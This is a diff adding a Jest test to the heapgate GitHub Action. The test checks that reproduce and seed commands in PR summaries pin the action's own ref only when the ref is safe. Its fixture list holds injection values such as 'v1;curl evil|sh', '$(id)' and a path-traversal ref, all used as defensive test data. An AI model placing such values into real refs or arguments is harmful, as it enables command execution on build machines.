@@ -284,6 +284,47 @@ describe('pull requests and the sticky comment', () => {
     expect(same.outputs['comment-url']).toBe(fixed.outputs['comment-url']);
   });
 
+  test("reproduce and seed commands run the action's own commit with npx when the runner names it, else npx heapgate", async () => {
+    const store = await seededStore();
+    const at = (repository: string, ref: string, inputs: Record<string, string> = {}): Promise<ActionResult> =>
+      run(store, REGRESSED, {
+        eventName: 'pull_request',
+        payload: prPayload({ number: 41 }),
+        sha: sha('e'),
+        ref: 'refs/pull/41/merge',
+        inputs,
+        env: { GITHUB_ACTION_REPOSITORY: repository, GITHUB_ACTION_REF: ref },
+      });
+    const pinned = await at('heapgate/heapgate', 'v1.2.3');
+    expect(pinned.outputs.verdict).toBe('fail');
+    expect(pinned.summary).toContain(
+      "Reproduce locally: `npx --yes 'github:heapgate/heapgate#v1.2.3' check " +
+        `${REGRESSED} --store ${store} --series cache --branch main`,
+    );
+    const seed = await at('heapgate/heapgate', 'feature/x', { series: 'other' });
+    expect(seed.outputs.verdict).toBe('no-baseline');
+    expect(seed.summary).toContain(
+      `\`npx --yes 'github:heapgate/heapgate#feature/x' baseline put ${REGRESSED} --store ${store} --series other`,
+    );
+    expect(reportOf(seed).message).toContain("npx --yes 'github:heapgate/heapgate#feature/x' baseline put");
+
+    const hostile: [string, string][] = [
+      ['heapgate/heapgate', 'v1;curl evil|sh'],
+      ['heapgate/heapgate', '../../other/repo'],
+      ['heapgate/heapgate', '$(id)'],
+      ['heapgate/heapgate', 'a'.repeat(101)],
+      ['heap gate/heapgate', 'v1'],
+      ['heapgate', 'v1'],
+      ['', ''],
+    ];
+    for (const [repository, ref] of hostile) {
+      const r = await at(repository, ref);
+      expect(r.outputs.verdict).toBe('fail');
+      expect(r.summary).toContain(`Reproduce locally: \`npx heapgate check ${REGRESSED} `);
+      expect(r.summary).not.toContain('github:');
+    }
+  });
+
   test('the comment is found across pages, and a marker pasted by someone else is never edited', async () => {
     const store = await seededStore();
     const number = 8;
